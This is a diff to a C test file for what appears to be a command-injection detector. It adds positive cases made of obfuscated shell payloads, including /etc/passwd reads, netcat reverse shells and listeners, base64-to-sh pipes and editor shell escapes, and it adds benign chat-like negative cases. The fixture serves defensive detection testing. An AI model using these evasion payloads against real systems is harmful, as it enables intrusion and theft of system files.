@@ -130,7 +130,15 @@ WSG_TEST(cmdi_positives)
 		"cat /[?]tc/pa[?]swd", "cat /etc/[p//]asswd", "cat+/et*/*wd", "/?\?\?/?s",
 		"x;/bin/ca?+/et*/passwd", "x.com;c$*at+/et$*c/pas$*swd",
 		"\\necho injectx\\nexit", "\\n/usr/bin/id\\n", "which gcc", "which nc wget",
-		"time; ansible all -m ping", NULL,
+		"time; ansible all -m ping", "cd /;cd etc;column passwd",
+		";vim dddd  silent\\\\ \\!whoami  wq", ";ex -c:\\!pwd",
+		";\\n.shell nc 10.0.0.1 66 -e sh", "1;.\\\"shell whoami", "{cat,/etc/passwd}",
+		"c{a,oun}t", "{id,}", "{n$u\\c$u,-nlvp,777}", "<(cat file)", ">(tee log)", "$[2+2]",
+		"$(`dir`)", "c99 -wrapper sh,-c,curl x", "una$$me -a", "echo | ${gcc7.4}gcc7.4",
+		"find /etc -name passwd -exec cat {} +", "a=nc&&$a -nlvp 555",
+		"printf x|base64 -d|sh", "view=a.jpg&bcdboot/r file", "bin/ansible",
+		"/usr/bin/python3 -m http.server", "'cscli' alerts list", "${shell} -c \"echo hi\"",
+		NULL,
 	};
 
 	for (int i = 0; pos[i]; i++)
@@ -152,7 +160,10 @@ WSG_TEST(cmdi_chat_negatives)
 		"/dev/hd??",
 		"see /etc/cron.*/* and /etc/init/*.conf", "/apps/options/splash_image??",
 		"which python is best?", "which one?", "line one\nline two", "hi\nping me later",
-		"thanks; ansible is great", NULL,
+		"thanks; ansible is great", "cd ~; cd projects; make", "vim x, then :!ls",
+		"i love {cats,dogs}", "{\"a\":1,\"b\":2}", "find . -name x -exec rm {} \\;",
+		"base64 -d file | less", "diff <(ls a) <(ls b)", "$[0]", "a=5 && $a is five",
+		">(  angry", "/bin/sh: line 1: takes: command not found", NULL,
 	};
 
 	for (int i = 0; neg[i]; i++)
